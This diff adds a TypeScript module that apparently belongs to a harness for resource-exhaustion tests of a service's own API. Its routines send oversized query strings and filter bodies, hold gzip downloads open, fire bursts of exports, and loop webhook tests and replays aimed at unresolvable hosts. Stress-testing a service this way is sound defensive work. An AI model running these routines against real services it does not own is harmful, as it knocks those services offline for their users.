@@ -1,0 +1,44 @@
+// Attacks on the API: each repeats requests that were expensive for the service and free for the client.
+import type { Attacker } from './attacker.ts';
+import { pick } from './attacker.ts';
+import type { AttackTask } from './attacks.ts';
+
+/** Fits the limit of headers. */
+const manyParameters = 'a&'.repeat(7900);
+/** Fits the limit of bodies, and each one differs. */
+const bigFilter = (n: number) =>
+  JSON.stringify({ format: 'jsonl', filters: { language: [`${n}${'x'.repeat(243_000)}`] } });
+
+export function apiAttacks({ hold, repeat, head, withKey, post }: Attacker, { download, enterprise }: AttackTask) {
+  let n = 0;
+  const json = (value: object) => JSON.stringify(value);
+  const { webhookId, key: enterpriseKey } = enterprise;
+  const asEnterprise = withKey(enterpriseKey);
+  return {
+    'queries of 7,900 parameters': () =>
+      repeat(8, () => `${head(`GET ${download.split('?', 1)[0]}?${manyParameters}`)}\r\n`),
+    'downloads with gzip': () =>
+      hold(40, (socket) => {
+        const request = `${head(`GET ${download}`, 'accept-encoding: gzip\r\nconnection: close\r\n')}\r\n`;
+        socket.write(request);
+      }),
+    'exports with large filters': () => repeat(50, () => post('POST /export', withKey(), bigFilter(++n))),
+    'refused exports at once': () => repeat(400, () => post('POST /export', withKey(), json({ format: 'jsonl' }))),
+    'names that do not resolve': () =>
+      repeat(30, () =>
+        post(
+          `PATCH /webhooks/${webhookId}`,
+          asEnterprise,
+          json({ webhook_url: `https://attack-${++n}.example.invalid/` }),
+        ),
+      ),
+    'tests, replays and exports without end': () =>
+      repeat(20, () =>
+        pick([
+          post(`POST /webhooks/${webhookId}/test`, asEnterprise, ''),
+          post(`POST /webhooks/${webhookId}/replay`, asEnterprise, json({ since: '2026-01-01T00:00:00Z' })),
+          post('POST /export', asEnterprise, json({ format: 'jsonl' })),
+        ]),
+      ),
+  } satisfies Record<string, () => void>;
+}
